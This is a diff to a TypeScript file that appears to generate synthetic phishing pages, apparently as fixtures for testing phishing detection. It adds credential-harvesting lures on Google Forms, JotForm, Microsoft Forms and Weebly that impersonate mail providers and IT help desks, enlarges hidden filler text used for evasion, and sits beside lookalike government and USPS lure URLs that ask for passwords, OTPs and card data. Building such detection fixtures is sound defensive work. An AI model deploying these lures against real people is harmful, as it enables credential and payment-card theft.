@@ -82,11 +82,20 @@ ru|Госуслуги|https://gosuslugi-vyplata.ru-lk.site/esia|Вам поло�
 ar|أبشر|https://absher-sa.tahdith-bayanat.live/|يجب تحديث بيانات أبشر|id,password,otp,card
 en|USPS|https://usps.redelivery-pkg.top/i/update|Your package could not be delivered due to an incorrect house number|name,addr,zip,ccnum,exp,cvv`);
 
+/** Forms that hosts of forms hand out to anybody. */
+const FORM_HOSTS: Saved[] = [
+  ['https://docs.google.com/forms/d/e/1FAIpQLSfake91/viewform?vc=0', `<html lang="en"><head><title>AT&amp;T Yahoo Mail Verification</title></head><body><form action="https://docs.google.com/forms/d/e/1FAIpQLSfake91/formResponse" method="POST" id="mG61Hd"><div role="heading">AT&T Yahoo Mail Verification</div><p>${words('en').threat}</p><label>Email Address *</label><input name="entry.77"><label>Pass word *</label><input name="entry.78"><label>Confirm Pass word *</label><input name="entry.79"><input type="hidden" name="fvv" value="1"><input type="hidden" name="fbzx" value="-99"></form><div>Never submit passwords through Google Forms.</div><script>var FB_PUBLIC_LOAD_DATA_ = [null,["",[[1,"Email Address",null,0],[2,"Pass word",null,0]]]];</script></body></html>`],
+  ['https://form.jotform.com/233312998812', `<html lang="fr"><head><title>Mise à jour SFR Mail</title></head><body><form class="jotform-form" action="https://submit.jotform.com/submit/233312998812" method="post" name="form_233312998812"><input type="hidden" name="formID" value="233312998812"><label>Adresse SFR</label><input name="q3_adresse"><label>Mot de passe SFR</label><input name="q4_motDe"><p>${words('fr').threat}</p></form><script>JotForm&&0;</script></body></html>`.replace('<script>JotForm&&0;</script>', '<script src="https://cdn.jotfor.ms/static/prototype.forms.js"></script>')],
+  ['https://forms.office.com/Pages/ResponsePage.aspx?id=DQSIkWdsW0fake', `<html lang="es"><head><title>Soporte TI: migración de buzón</title></head><body><div id="form-container"><p>El departamento de TI migra todos los buzones. Introduzca sus credenciales para no perder sus mensajes.</p><input aria-label="Correo" name="r1"><input aria-label="Contraseña actual" name="r2" type="text"></div><script>window.OfficeFormServerInfo={"serverInfo":{"serverSessionId":"9a"}};</script></body></html>`],
+  ['https://outlook-upgrade-desk.weebly.com/', `<html lang="en"><head><title>OUTLOOK WEB APP - Home</title></head><body class="wsite-page-index"><h2>IT HELP DESK 2019</h2><form enctype="multipart/form-data" action="//www.weebly.com/weebly/apps/formSubmit.php" method="POST" id="form-91"><input name="_u91"><label>Domain\\User name</label><input name="_u92"><label>Password</label><input type="password" name="_u93"><input type="hidden" name="ucfid" value="91"></form><div id="weebly-footer-signup-container-v3">Create your own unique website with customizable templates.</div></body></html>`],
+];
+
 export const credentials = {
+  formHost: () => FORM_HOSTS,
   mailKit: () =>
     MAIL.map(([lang = 'en', brand = '', url = '', style = 'plain', to = ''], n): Saved => [
       url,
-      `${n % 3 === 1 ? '' : '<!DOCTYPE html>\n'}<html lang="${n % 4 ? lang : 'en'}"><head><meta charset="utf-8"><title>${[`${brand}`, `Sign in to ${brand}`, `${brand} - ${words(lang).enter}`, 'Login', ''][n % 5]}</title>${n % 2 ? '<meta name="robots" content="noindex, nofollow, noarchive">' : ''}<link rel="shortcut icon" href="${PIXEL}"></head><body>${STYLES[style]?.(brand, lang, to, n)}${n % 6 === 5 ? `<div style="display:none">${letters(n, 400, 'abcdefghijklmnopqrst    ')}</div>` : ''}</body></html>`,
+      `${n % 3 === 1 ? '' : '<!DOCTYPE html>\n'}<html lang="${n % 4 ? lang : 'en'}"><head><meta charset="utf-8"><title>${[`${brand}`, `Sign in to ${brand}`, `${brand} - ${words(lang).enter}`, 'Login', ''][n % 5]}</title>${n % 2 ? '<meta name="robots" content="noindex, nofollow, noarchive">' : ''}<link rel="shortcut icon" href="${PIXEL}"></head><body>${STYLES[style]?.(brand, lang, to, n)}${n % 6 === 5 ? `<div style="display:none">${letters(n, 20_000, 'abcdefghijklmnopqrst    ')}</div>` : ''}</body></html>`,
     ]),
   stateKit: () =>
     STATE.map(([lang = 'en', brand = '', url = '', text = '', fields = ''], n): Saved => {
